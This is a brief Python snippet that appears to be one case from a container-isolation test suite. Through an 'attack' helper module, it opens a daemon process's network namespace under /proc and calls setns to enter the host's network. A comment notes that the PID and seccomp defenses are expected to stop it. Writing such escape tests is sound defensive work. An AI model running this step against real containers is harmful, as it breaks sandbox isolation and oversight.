# enter the network of the host
# held by: pid, seccomp
import os
from attack import call, target
call("setns", os.open("/proc/" + target("DAEMON_PID") + "/ns/net", os.O_RDONLY), 0x40000000)
